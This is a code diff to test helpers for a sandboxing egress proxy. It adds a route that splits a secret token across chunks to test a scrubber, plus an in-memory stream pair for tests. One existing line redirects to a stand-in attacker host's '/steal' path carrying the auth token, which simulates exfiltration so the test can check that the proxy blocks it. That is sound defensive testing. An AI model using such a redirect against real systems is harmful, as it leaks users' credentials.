@@ -4,6 +4,7 @@
 import { once } from "node:events";
 import { createServer as createHttpsServer, type Server as HttpsServer } from "node:https";
 import { type AddressInfo, createServer, type Server, connect as tcpConnect } from "node:net";
+import { Duplex } from "node:stream";
 import { createSecureContext, connect as tlsConnect } from "node:tls";
 import { createLogger } from "../../src/core/index.js";
 import {
@@ -81,7 +82,13 @@ export async function startUpstream(
         headers: req.headers,
         body: Buffer.concat(chunks).toString(),
       });
-      if (req.url?.startsWith("/redirect")) {
+      if (req.url?.startsWith("/chunked")) {
+        // The secret split across two chunks (and two TLS records), so the scrubber must join pieces.
+        const half = Math.floor(auth.length / 2) + 3;
+        res.writeHead(200, { "content-type": "text/plain" });
+        res.write(`token: ${auth.slice(0, half)}`);
+        setTimeout(() => res.end(`${auth.slice(half)} end`), 20);
+      } else if (req.url?.startsWith("/redirect")) {
         res.writeHead(302, { location: `https://${ATTACKER}/steal?token=${encodeURIComponent(auth)}` }).end();
       } else if (req.url?.startsWith("/gzip")) {
         res.writeHead(200, { "content-encoding": "gzip", "content-length": "4" }).end("abcd");
@@ -107,6 +114,7 @@ export interface ProxyUnderTest {
   ca: CellCa;
   audit: ProxyAuditEntry[];
   resolved: string[];
+  ctx: ProxyContext;
 }
 
 /** The proxy on a loopback port; `overrides` change the context (allowPrivate, resolve, allowTunnel…). */
@@ -139,7 +147,7 @@ export async function startProxy(
   const server = createServer((socket) => void handleProxyConnection(socket, ctx));
   server.listen(0, "127.0.0.1");
   await once(server, "listening");
-  return { server, port: (server.address() as AddressInfo).port, ca, audit, resolved };
+  return { server, port: (server.address() as AddressInfo).port, ca, audit, resolved, ctx };
 }
 
 export interface CellExchange {
@@ -187,6 +195,52 @@ export async function throughProxy(
   tls.write(request);
   const tunnel = await readAll(tls);
   return { connectReply, tunnel, all: Buffer.concat([first.head, tunnel]) };
+}
+
+/**
+ * The same exchange over an in-memory Duplex pair, as the warden gets a connection from the cell's channel.
+ * The cell's TLS client starts in the same tick as the CONNECT reply: Node's TLS client over an in-memory
+ * Duplex stalls when wrapped later, which is the client's quirk, not the proxy's.
+ */
+export function throughDuplex(proxy: ProxyUnderTest, request: string): Promise<Buffer> {
+  const [cell, warden] = duplexPair();
+  void handleProxyConnection(warden, proxy.ctx);
+  return new Promise((resolve, reject) => {
+    cell.once("data", (reply: Buffer) => {
+      if (!reply.toString("latin1").startsWith("HTTP/1.1 200"))
+        return reject(new Error(reply.toString("latin1")));
+      const tls = tlsConnect({ socket: cell, servername: BOUND, ca: [proxy.ca.certPem] });
+      tls.once("secureConnect", () => tls.write(request));
+      void readAll(tls).then((bytes) => resolve(bytes));
+    });
+    cell.write(`CONNECT ${BOUND}:443 HTTP/1.1\r\nHost: ${BOUND}:443\r\n\r\n`);
+  });
+}
+
+/** Two connected in-memory streams, like the channel's egress streams: what one writes, the other reads. */
+function duplexPair(): [Duplex, Duplex] {
+  const sides: Duplex[] = [];
+  const make = (peer: () => Duplex | undefined) =>
+    new Duplex({
+      read() {},
+      write(chunk: Buffer, _encoding, done) {
+        peer()?.push(chunk);
+        done();
+      },
+      final(done) {
+        peer()?.push(null);
+        done();
+      },
+      destroy(error, done) {
+        peer()?.destroy();
+        done(error);
+      },
+    });
+  sides.push(
+    make(() => sides[1]),
+    make(() => sides[0]),
+  );
+  return [sides[0] as Duplex, sides[1] as Duplex];
 }
 
 function readHead(socket: NodeJS.ReadableStream): Promise<{ head: Buffer; rest: Buffer }> {
